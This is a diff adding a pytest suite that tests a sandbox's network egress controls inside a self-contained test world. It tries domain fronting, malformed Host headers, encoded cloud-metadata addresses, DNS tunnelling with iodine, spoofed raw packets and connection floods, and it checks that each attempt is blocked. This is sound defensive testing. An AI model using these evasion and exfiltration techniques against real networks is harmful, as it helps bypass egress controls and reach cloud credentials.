@@ -1,0 +1,577 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What sandboxes reach, and what not (security.md 3.9), in a world of the test's own (lib/world.py).
+
+The numbers are those of the catalogue. Attackers inside are root of the sandbox; where that is too
+weak for an attack, the test itself attacks from the sandbox's net namespace as root of the host.
+"""
+
+import json
+import os
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import threading
+import time
+
+import pytest
+
+from lib import tree, world
+from lib.client import ApiError
+from lib.daemon import Daemon
+from lib.world import EVIL, GOOD, HOST, METADATA, PRIVATE, World
+
+ALLOW = ["allowed.test", "*.allowed.test", "mail.test:2525"]
+CURL = "curl -sS -m 20 -o /dev/null -w '%{http_code}'"
+
+
+@pytest.fixture(scope="module")
+def net():
+    with World() as outside:
+        with Daemon(env={"CAY_DNS_UPSTREAM": world.DNS}) as daemon:
+            outside.daemon = daemon
+            yield outside
+        links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout
+        tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
+        routes = subprocess.run(["ip", "route"], capture_output=True, text=True).stdout
+        assert not re.search(r"cay\d+-", links) and "cay" not in tables and "100." not in routes, (links, tables, routes)
+
+
+def open_box(net, **policy):
+    policy = dict({"mode": "restricted", "allow": ALLOW}, **policy)
+    return Box(net, net.daemon.client, network=policy, timeout_sec=3600)
+
+
+class Box:
+    def __init__(self, net, client, **body):
+        self.net, self.client, self.body = net, client, body
+
+    def __enter__(self):
+        self.sandbox = self.client.sandbox(**self.body)
+        self.sandbox.__enter__()
+        self.id = self.sandbox.id
+        # A template built before sandboxes had networks names no server.
+        self.sandbox.root("grep -q nameserver /etc/resolv.conf || echo nameserver 192.0.2.53 > /etc/resolv.conf")
+        return self
+
+    def __exit__(self, *exc):
+        self.sandbox.__exit__(*exc)
+
+    def sh(self, command, **body):
+        return self.sandbox.exec(command, user="root", **body)
+
+    def py(self, code, *args):
+        """Runs Python inside; what it prints last, as JSON."""
+        done = self.sandbox.exec(["python3", "-c", PRELUDE + code, *map(str, args)], user="root")
+        assert done.exit_code == 0, done
+        return json.loads(done.stdout.splitlines()[-1])
+
+    def patch(self, **network):
+        return self.client.call("PATCH", f"/v1/sandboxes/{self.id}", {"network": network})
+
+    def denials(self):
+        return self.client.call("GET", f"/v1/sandboxes/{self.id}/denials")["data"]
+
+    def denied(self, **match):
+        return [d for d in self.denials() if all(d[k] == v for k, v in match.items())]
+
+    def address(self):
+        return self.sh("hostname -I").stdout.split()[0]
+
+    def pid(self):
+        """Of its first process: the one whose host name is the sandbox's."""
+        for pid in os.listdir("/proc"):
+            try:
+                if pid.isdigit() and open(f"/proc/{pid}/comm").read() == "agent\n":
+                    address = subprocess.run(["nsenter", "-t", pid, "-u", "hostname"],
+                                             capture_output=True, text=True).stdout.strip()
+                    if address == self.id:
+                        return pid
+            except OSError:
+                pass
+        raise AssertionError("no such process")
+
+
+PRELUDE = """
+import errno, json, os, socket, ssl, struct, sys
+def tcp(host, port, data=b'', wait=15):
+    '''What came back, or the error's name.'''
+    s = socket.socket(); s.settimeout(wait)
+    try:
+        s.connect((host, port))
+        if data: s.sendall(data)
+        got = b''
+        while True:
+            more = s.recv(65536)
+            if not more: break
+            got += more
+            if not data or b'\\r\\n\\r\\n' in got: break
+        return got.decode('latin-1')
+    except socket.timeout: return 'TIMEOUT'
+    except OSError as e: return errno.errorcode.get(e.errno, str(e))
+    finally: s.close()
+def say(x): print(json.dumps(x))
+"""
+
+
+@pytest.fixture(scope="module")
+def box(net):
+    with open_box(net) as sandbox:
+        yield sandbox
+
+
+def code(box, url, *options):
+    done = box.sh(f"{CURL} {' '.join(options)} '{url}'")
+    return done.stdout, done.exit_code
+
+
+# ---- what is allowed works ----
+
+def test_allowed_works(net, box):
+    assert code(box, "http://allowed.test/") == ("200", 0)
+    assert code(box, "https://api.allowed.test/", "-k") == ("200", 0)
+    assert code(box, "http://two.allowed.test/") == ("200", 0)  # an alias
+    assert box.py("say(len(socket.gethostbyname_ex('big.allowed.test')[2]))") == 30  # asked by TCP
+    assert net.seen("dns", name="big.allowed.test", tcp=True)
+    assert "mixed" not in json.dumps(box.denials())
+    assert box.py("say(socket.gethostbyname_ex('mixed.allowed.test')[2])") == [GOOD]
+
+
+def test_much_goes_through_unchanged(net, box):
+    done = box.sh("curl -sS -m 60 http://allowed.test/bytes/30000000 | md5sum; "
+                  "head -c 30000000 /dev/zero | tr '\\0' x | md5sum")
+    assert len(set(done.stdout.split())) == 2, done  # one sum, and '-'
+    done = box.sh("head -c 5000000 /dev/zero > /tmp/up; curl -sS -m 60 -T /tmp/up http://allowed.test/up")
+    assert done.exit_code == 0 and net.seen("http", path="/up", size=5000000)
+
+
+def test_server_that_speaks_first(net):
+    with open_box(net, allow=["allowed.test:2525"]) as box:
+        assert box.py("socket.gethostbyname('allowed.test'); say(tcp('allowed.test', 2525))") == "220 banner\r\n"
+        assert code(box, "http://allowed.test/") == ("403", 0)  # not on this port
+
+
+# ---- denials are explained ----
+
+def test_denial_is_explained(net, box):
+    done = box.sh(f"curl -sS -m 20 http://{EVIL}/secret")
+    reason = json.loads(done.stdout)["error"]
+    assert reason["code"] == "egress_denied" and reason["host"] == EVIL and reason["port"] == 80
+    assert reason["reason"] == "not_allowed" and f"cay net allow {box.id} {EVIL}:80" in reason["hint"]
+    done = box.sh("curl -sS -m 20 https://evil.test/")
+    assert done.exit_code == 6 and "resolve" in done.stderr
+    assert box.denied(host="evil.test", protocol="dns", reason="not_allowed")
+    found = box.denied(host=EVIL, port=80, protocol="http")
+    assert found and found[0]["count"] >= 1 and found[0]["suggestion"] == f"{EVIL}:80"
+    events = box.client.call("GET", f"/v1/sandboxes/{box.id}/events?format=json&type=egress")["data"]
+    assert any(e["type"] == "egress.denied" and e["data"]["host"] == EVIL for e in events), events
+    assert not net.seen("http", path="/secret")
+
+
+def test_learn(net):
+    with open_box(net, allow=[], learn=True) as box:
+        assert code(box, "http://evil.test:8080/") == ("200", 0)
+        assert code(box, f"http://{METADATA}/") == ("403", 0)  # what is never open stays shut
+        assert box.denied(host="evil.test", port=8080, passed=True)
+        said = net.daemon.command("net", "learn", box.id).stdout.split()
+        assert said == ["evil.test:8080"]
+        assert net.daemon.command("net", "allow", box.id, *said).returncode == 0
+        assert net.daemon.command("net", "learn", box.id, "off").returncode == 0
+        assert code(box, "http://evil.test:8080/") == ("200", 0)
+        assert code(box, "http://evil.test/") == ("403", 0)
+        assert "evil.test" in net.daemon.command("net", "denials", box.id).stdout
+
+
+# ---- NET-03, NET-04, NET-05: names that lie ----
+
+@pytest.mark.parametrize("url,options", [
+    ("https://allowed.test/", f"-k --resolve allowed.test:443:{EVIL}"),  # SNI allowed, address the attacker's
+    ("http://allowed.test/", f"--resolve allowed.test:80:{EVIL}"),
+    ("https://evil.test/", f"-k --resolve evil.test:443:{GOOD}"),  # address allowed, SNI not
+    ("http://evil.test/", f"--resolve evil.test:80:{GOOD}"),
+    (f"https://{GOOD}/", "-k"),  # no SNI
+    (f"http://{GOOD}/", "-H 'Host: allowed.test.evil.test'"),
+    (f"http://{GOOD}/", "-H 'Host: evil.test'"),
+])
+def test_NET_03_fronting(net, box, url, options):
+    box.py("say(socket.gethostbyname('allowed.test'))")
+    before = len(net.seen("http")) + len(net.seen("https"))
+    status, exit_code = code(box, url, options)
+    assert status == "403" or exit_code == 35, (status, exit_code)
+    assert len(net.seen("http")) + len(net.seen("https")) == before
+
+
+@pytest.mark.parametrize("head", [
+    b"GET / HTTP/1.0\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\nHost: \r\n\r\n",
+    b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
+    b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
+    b"GET / HTTP/1.1\r\nHost: allowed.test.evil\r\n\r\n", b"GET / HTTP/1.1\r\nHost: evil.test\0.allowed.test\r\n\r\n",
+    b"GET / HTTP/1.1\r\nHost: allowed.test:80@evil.test\r\n\r\n", b"GET / HTTP/1.1\r\nHost: all%6fwed.test\r\n\r\n",
+    b"GET / HTTP/1.1\r\nHost: " + b"a" * 300 + b".allowed.test\r\n\r\n",
+    b"GET / HTTP/1.1\r\nHost: a..allowed.test\r\n\r\n", b"GET / HTTP/1.1\r\nHost: xallowed.test\r\n\r\n",
+    b"GET / HTTP/1.1\nHost: allowed.test\n\n", b"GET / HTTP/1.1\r\n Host: allowed.test\r\n\r\n",
+    b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", b"SSH-2.0-x\r\n", b"\x00" * 64, "GET / HTTP/1.1\r\nHost: аllowed.test\r\n\r\n".encode(),
+], ids=range(20))
+def test_NET_04_odd_names(net, box, head):
+    box.py("say(socket.gethostbyname('allowed.test'))")
+    before = len(net.seen("http"))
+    got = box.py(f"say(tcp('{GOOD}', 80, {head!r}))")
+    assert "200 OK" not in got and got != "TIMEOUT", got
+    assert len(net.seen("http")) == before
+
+
+def test_NET_04_case_and_dot_are_the_same_name(net, box):
+    assert code(box, "http://ALLOWED.test./") == ("200", 0)
+
+
+def test_NET_05_deny_beats_allow(net):
+    with open_box(net, allow=["*.allowed.test", "0.0.0.0/0"], deny=["api.allowed.test", f"{EVIL}:80"]) as box:
+        assert code(box, "http://www.allowed.test/") == ("200", 0)
+        assert code(box, "https://api.allowed.test/", "-k")[1] == 6
+        assert code(box, "https://api.allowed.test/", f"-k --resolve api.allowed.test:443:{GOOD}")[1] == 35
+        assert code(box, f"http://{EVIL}/") == ("403", 0)
+        assert code(box, f"http://{EVIL}:8080/") == ("200", 0)
+        # Everything public, and still nothing that is not.
+        for address in (PRIVATE, METADATA, HOST, "127.0.0.1", "100.96.0.1"):
+            status, exit_code = code(box, f"http://{address}/")
+            assert status == "403" or exit_code == 7, (address, status, exit_code)
+
+
+def test_NET_05_private_where_it_is_meant(net):
+    with open_box(net, allow=["10.9.9.0/24:80", "intern.test"]) as box:
+        assert code(box, f"http://{PRIVATE}/") == ("200", 0)
+        assert code(box, f"http://{PRIVATE}:8080/") == ("403", 0)
+        assert box.py("say(socket.gethostbyname('intern.test'))") == PRIVATE
+
+
+def test_full_reaches_the_public_only(net):
+    with open_box(net, mode="full", allow=[], deny=["other.test"]) as box:
+        assert code(box, "http://evil.test/") == ("200", 0)
+        assert code(box, "https://evil.test/", "-k") == ("200", 0)
+        assert box.py(f"say(tcp('{EVIL}', 2525))") == "220 banner\r\n"
+        assert code(box, "http://other.test/")[1] == 6
+        for address in (PRIVATE, METADATA, HOST):
+            assert code(box, f"http://{address}/") == ("403", 0)
+
+
+# ---- NET-07: metadata ----
+
+FORMS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.254.0xa9fe",
+         "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "169.254.169.254.", "100.100.100.200", "168.63.129.16"]
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_NET_07_metadata(net, box, form):
+    status, exit_code = code(box, f"http://{form}/latest/meta-data")
+    assert status == "403" or exit_code in (6, 7), (status, exit_code)
+    assert not net.seen("http", address=METADATA)
+
+
+def test_NET_07_by_name_and_redirect(net, box):
+    for name in ("meta.allowed.test", "rebind.allowed.test", "loop.allowed.test"):
+        assert code(box, f"http://{name}/")[1] == 6, name
+        assert box.denied(host=name, protocol="dns"), name
+    status, _ = code(box, f"http://allowed.test/redirect?http://{METADATA}/steal", "-L")
+    assert status == "403"
+    assert code(box, "http://host.allowed.test/") == ("403", 0)  # this host's own address, by an allowed name
+    assert not net.seen("http", path="/steal") and not net.seen("http", address=METADATA)
+
+
+# ---- NET-08: DNS ----
+
+ASK = """
+def ask(server, name, kind=1, tcp_=False):
+    q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(x)]) + x for x in name.split(b'.')) + b'\\0'
+    q += struct.pack('!HH', kind, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp_ else socket.SOCK_DGRAM); s.settimeout(15)
+    s.connect((server, 53)); s.send((struct.pack('!H', len(q)) if tcp_ else b'') + q)
+    a = s.recv(4096)[2 if tcp_ else 0:]
+    return [a[3] & 15, struct.unpack('!H', a[6:8])[0]]
+"""
+
+
+def test_NET_08_only_allowed_names_leave(net, box):
+    names = [b"x" * 63 + b".tunnel.test", b"a.b.c.d.e.f.evil.test", b"allowed.test.evil.test", b"_dmarc.evil.test",
+             b"allowed.tes", b"test", b"8.8.8.8.in-addr.arpa", b"l\xc3\xb6wed.test"]
+    before = len(net.seen("dns"))
+    codes = box.py(ASK + f"say([ask('192.0.2.53', n, k)[0] for n in {names!r} for k in (1, 28, 16, 10, 255, 65)])")
+    assert set(codes) <= {1, 3, 5}, codes
+    assert box.py(ASK + "say(ask('192.0.2.53', b'tunnel.test', 1, True))")[0] == 3
+    # Any server is ours: a question to another one never leaves.
+    assert box.py(ASK + f"say([ask('{EVIL}', b'leak.evil.test'), ask('8.8.8.8', b'leak.evil.test')])") == [[3, 0], [3, 0]]
+    assert len(net.seen("dns")) == before
+    # Of an allowed name nothing but the address is ever asked for.
+    assert box.py(ASK + "say([ask('1.1.1.1', b'allowed.test'), ask('1.1.1.1', b'allowed.test', 16)])") == [[0, 1], [0, 0]]
+    assert all(e["type"] == 1 for e in net.seen("dns"))
+
+
+def test_NET_08_other_ways_to_resolve(net, box):
+    assert box.py(f"say(tcp('{EVIL}', 853, b'\\x16\\x03\\x01'))") != "TIMEOUT"
+    assert code(box, f"https://{EVIL}/dns-query?dns=AAAB", "-k")[1] == 35
+    done = box.py("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
+                  "out = []\n"
+                  "for to in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('%s', 443)):\n"
+                  "  try: s.connect(to); s.send(b'x'); s.send(b'x'); out.append(s.recv(9).decode())\n"
+                  "  except OSError as e: out.append(type(e).__name__)\n"
+                  "say(out)" % EVIL)
+    assert done[2] != "x" and not net.seen("udp")
+
+
+def test_NET_08_flood(net, box):
+    """A thousand questions: bounded, and nobody else waits."""
+    flood = "\nfor i in range(1000):\n  s.send(q.replace(b'0000', b'%04d' % i))\n"
+    box.py("q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\\x08name0000\\x04evil\\x04test\\0\\0\\x01\\0\\x01'\n"
+           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('192.0.2.53', 53))" + flood + "say(1)")
+    assert net.daemon.client.healthz() == 200
+    assert not [e for e in net.seen("dns") if e["name"].endswith("evil.test") and e["name"].startswith("name")]
+    assert len(box.denials()) <= 128
+    assert code(box, "http://allowed.test/") == ("200", 0)
+
+
+@pytest.mark.skipif(not shutil.which("iodine"), reason="iodine is not installed (make deps)")
+def test_NET_08_iodine(net, box):
+    """A real tunnel, driven with the power of the host's root inside the sandbox's network."""
+    argv = ["nsenter", "-t", box.pid(), "-n", "iodine", "-f", "-r", "-P", "x", "192.0.2.53", "t.evil.test"]
+    before = len(net.seen("dns"))
+    client = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    try:
+        out, _ = client.communicate(timeout=60 * tree.SLACK)
+    except subprocess.TimeoutExpired:
+        client.kill()
+        out, _ = client.communicate()
+    assert "Connection setup complete" not in out and client.returncode != 0, out
+    assert len(net.seen("dns")) == before
+    assert any("t.evil.test" in d["host"] for d in box.denied(protocol="dns")), (out, box.denials())
+
+
+# ---- NET-09, NET-11, NET-12, NET-13: packets, neighbours, the host ----
+
+def test_NET_09_other_protocols(net, box):
+    found = box.py(
+        "out = {}\n"
+        "for name, args in {'raw': (2, 3, 1), 'packet': (17, 3, 3), 'sctp': (2, 1, 132), 'udplite': (2, 2, 136),\n"
+        "                   'dccp': (2, 6, 33), 'ping': (2, 2, 1)}.items():\n"
+        "  try:\n"
+        "    s = socket.socket(*args); s.settimeout(15); s.connect(('%s', 80)); s.send(b'\\x08\\0\\0\\0\\0\\0\\0\\0')\n"
+        "    s.send(b'\\x08\\0\\0\\0\\0\\0\\0\\0'); s.recv(9); out[name] = 'open'\n"
+        "  except OSError as e: out[name] = type(e).__name__\n"
+        "say(out)" % EVIL)
+    assert "open" not in found.values(), found
+
+
+def test_NET_09_datagrams_are_refused_at_once(net, box):
+    took = box.py("import time; t = time.time(); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                  f"s.settimeout(30); s.connect(('{GOOD}', 9999)); s.send(b'x')\n"
+                  "try: s.recv(9); say(-1)\nexcept OSError as e: say([time.time() - t, e.errno])")
+    assert took != -1 and took[1] in (113, 111, 13, 1), took
+    assert not net.seen("udp")
+
+
+def test_NET_11_neighbours(net, box):
+    with open_box(net, allow=["0.0.0.0/0", "100.96.0.0/11"], mode="full") as other:
+        port = 4000
+        other.sh(f"python3 -m http.server {port} >/dev/null 2>&1 & sleep 0.1")
+        address = other.address()
+        # Even one whose policy names the whole range.
+        for attacker in (box, other):
+            target = address if attacker is box else box.address()
+            for number in (port, 22, 80, 443):
+                got = attacker.py(f"say(tcp('{target}', {number}, b'GET / HTTP/1.0\\r\\n\\r\\n'))")
+                assert "200 OK" not in got and got != "TIMEOUT", got
+        assert box.denied(host=address, reason="host_address")
+
+
+def test_NET_11_spoofed_source(net, box):
+    """Raw packets with another's address, sent by the host's root from inside the sandbox's network."""
+    script = ("import socket,struct,sys\n"
+              "s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)\n"
+              "for src in sys.argv[2:]:\n"
+              "  h=struct.pack('!BBHHHBBH4s4s',0x45,0,0,1,0,64,17,0,socket.inet_aton(src),socket.inet_aton(sys.argv[1]))\n"
+              "  s.sendto(h+struct.pack('!HHHH',4,53,8+29,0)+b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1',(sys.argv[1],0))\n")
+    with open_box(net) as other:
+        before = len(net.seen("dns"))
+        done = subprocess.run(["nsenter", "-t", box.pid(), "-n", "/usr/bin/python3", "-c", script, GOOD, other.address(),
+                               HOST, GOOD, "127.0.0.1", "100.96.0.1"], capture_output=True, text=True)
+        assert done.returncode == 0, done
+        # An honest question behind them has been answered: had they been let through, so had they.
+        assert box.py("say(socket.gethostbyname('www.allowed.test'))") == GOOD
+        assert [e["name"] for e in net.seen("dns")[before:]] == ["www.allowed.test"]
+
+
+def test_NET_12_host(net, box):
+    """A service of the host on all of its addresses, and the daemon's own."""
+    hits = []
+    server = socket.create_server(("0.0.0.0", 0), backlog=64)
+    server.settimeout(0.2)
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                hits.append(server.accept()[1])
+            except TimeoutError:
+                pass
+    thread = threading.Thread(target=serve)
+    thread.start()
+    try:
+        port, api = server.getsockname()[1], int(net.daemon.url.rsplit(":", 1)[1])
+        gateway = box.sh("ip route | awk '/default/ {print $3}'").stdout.strip()
+        answers = box.py(f"say([tcp(a, n, b'GET /healthz HTTP/1.0\\r\\n\\r\\n') for a in "
+                         f"('{gateway}', '{HOST}', '{world.LAN}', '0.0.0.0') for n in ({port}, {api}, 17080, 17053, 22)])")
+        assert not [a for a in answers if "200 OK" in a or a == "TIMEOUT"], answers
+    finally:
+        stop.set()
+        thread.join()
+        server.close()
+    assert not hits
+
+
+def test_NET_13_no_power_over_the_link(box):
+    for command in ("ip link set eth0 down", "ip addr add 10.0.0.1/8 dev eth0", "ip route del default",
+                    "ip link add x type dummy", "ip link set eth0 address 02:00:00:00:00:01", "ip link set eth0 promisc on",
+                    "echo 1 > /proc/sys/net/ipv4/ip_forward", "echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6"):
+        assert box.sh(command).exit_code != 0, command
+    assert "inet6" not in box.sh("ip addr show eth0").stdout
+
+
+# ---- NET-15, NET-16: at every time ----
+
+def check_policy(box):
+    assert code(box, "http://allowed.test/") == ("200", 0)
+    assert code(box, f"http://{EVIL}/") == ("403", 0)
+    assert code(box, "http://evil.test/")[1] == 6
+
+
+def test_NET_15_first_packet(net):
+    """The first thing that runs is refused as everything after it."""
+    for _ in range(5):
+        with net.daemon.client.sandbox(network={"mode": "restricted", "allow": ["allowed.test"]}) as sandbox:
+            done = sandbox.exec(["python3", "-c", PRELUDE + f"say(tcp('{EVIL}', 2525))"])
+            assert json.loads(done.stdout) != "220 banner\r\n"
+    assert not net.seen("banner", address=EVIL) or net.seen("banner", address=EVIL) == net.banners
+
+
+@pytest.fixture(autouse=True)
+def count_banners(request):
+    """Of mode full's own test: what was let through before."""
+    if "net" in request.fixturenames:
+        net = request.getfixturevalue("net")
+        net.banners = net.seen("banner", address=EVIL)
+
+
+@pytest.mark.parametrize("kind", ["freeze", "hibernate"])
+def test_NET_15_pause(net, kind):
+    client = net.daemon.client
+    if kind == "hibernate" and "snapshot" not in client.capabilities("native"):
+        pytest.skip("no snapshots on this host")
+    with open_box(net) as box:
+        client.call("POST", f"/v1/sandboxes/{box.id}/pause", {"kind": kind})
+        client.call("POST", f"/v1/sandboxes/{box.id}/resume", {})
+        check_policy(box)
+
+
+def test_NET_15_fork_and_snapshot(net):
+    client = net.daemon.client
+    if "snapshot" not in client.capabilities("native"):
+        pytest.skip("no snapshots on this host")
+    with open_box(net) as box:
+        snapshot = client.call("POST", f"/v1/sandboxes/{box.id}/snapshots", {})["id"]
+        child = client.call("POST", f"/v1/sandboxes/{box.id}/fork", {"count": 1})["data"][0]
+        try:
+            assert child["network"]["allow"] == ALLOW
+            box.sandbox.id, box.id = child["id"], child["id"]
+            check_policy(box)
+        finally:
+            client.delete(child["id"])
+            box.sandbox.id = box.id = box.sandbox.row["id"]
+        client.call("POST", f"/v1/sandboxes/{box.id}/restore", {"snapshot_id": snapshot})
+        check_policy(box)
+        client.call("DELETE", f"/v1/snapshots/{snapshot}")
+
+
+def test_NET_15_live_change(net):
+    with open_box(net, allow=["allowed.test"]) as box:
+        box.sh("nohup python3 -c 'import socket,time; s=socket.create_connection((\"allowed.test\",2525)); s.recv(99)\n"
+               "print(\"up\",flush=True)\ntry:\n  s.recv(9)\n  print(\"end\",flush=True)\n"
+               "except OSError as e: print(\"reset\",flush=True)' > /tmp/out 2>&1 &")
+        wait(lambda: box.sh("cat /tmp/out").stdout == "up\n")
+        box.patch(deny=["allowed.test"])
+        wait(lambda: box.sh("cat /tmp/out").stdout.split()[-1] in ("reset", "end"))
+        assert code(box, "http://allowed.test/")[1] == 6
+        box.patch(deny=[], allow=["allowed.test", "evil.test"])
+        assert code(box, "http://evil.test/") == ("200", 0)
+        box.patch(mode="none")
+        assert code(box, f"http://{GOOD}/")[1] != 0
+        box.patch(mode="restricted")
+        check = code(box, "http://allowed.test/")
+        assert check == ("200", 0)
+
+
+def wait(condition, seconds=15):
+    until = time.monotonic() + seconds * tree.SLACK
+    while not condition():
+        assert time.monotonic() < until
+        time.sleep(0.05)
+
+
+@pytest.mark.parametrize("name", ["cayd", "cay-warden"])
+def test_NET_16_killed(net, name):
+    """Without the daemon nothing is open; without the warden nothing changes; both come back."""
+    daemon = net.daemon
+    with open_box(net) as box:
+        pid = box.pid()
+        daemon.kill("cay", signal.SIGSTOP)  # the supervisor would restart it at once
+        try:
+            daemon.kill(name)
+            wait(lambda: name not in daemon.pids())
+            shot = ["nsenter", "-t", pid, "-n", "curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}"]
+            done = subprocess.run([*shot, "--resolve", f"allowed.test:80:{GOOD}", "http://allowed.test/"],
+                                  capture_output=True, text=True)
+            evil = subprocess.run([*shot, f"http://{EVIL}/"], capture_output=True, text=True)
+            tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
+            assert "cay" in tables
+            assert evil.stdout != "200"
+            if name == "cayd":
+                assert done.returncode == 7, done  # refused, not hanging
+        finally:
+            daemon.kill("cay", signal.SIGCONT)
+        box.client = box.sandbox.client = daemon.wait_ready(30)
+        check_policy(box)
+        with open_box(net) as another:
+            check_policy(another)
+        daemon.forgive()
+
+
+def test_NET_16_rules_survive_a_flush(net, box):
+    """Somebody reloads the host's firewall."""
+    check_policy(box)
+    subprocess.run(["nft", "flush", "ruleset"], check=False, capture_output=True)
+    check_policy(box)
+
+
+# ---- NET-17, NET-19: abuse ----
+
+def test_NET_17_many_connections(net, box):
+    found = box.py(
+        "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))\n"
+        "held = []\n"
+        "for i in range(1500):\n"
+        "  s = socket.socket(); s.setblocking(False); s.connect_ex(('%s', 9000 + i %% 50)); held.append(s)\n"
+        "say(len(held))" % EVIL)
+    assert found == 1500
+    assert net.daemon.client.healthz() == 200
+    with open_box(net) as other:
+        assert code(other, "http://allowed.test/") == ("200", 0)
+
+
+def test_metrics_and_usage(net, box):
+    figures = net.daemon.client.call("GET", f"/v1/sandboxes/{box.id}/metrics")
+    assert figures["network_sent_bytes"] > 0 and figures["network_received_bytes"] > 0
+
+
+def test_none_refuses_a_bad_policy(net):
+    with pytest.raises(ApiError) as caught:
+        net.daemon.client.create(network={"mode": "restricted", "deny": ["x.test:99999"]})
+    assert caught.value.status == 400 and "network.deny[0]" in str(caught.value)
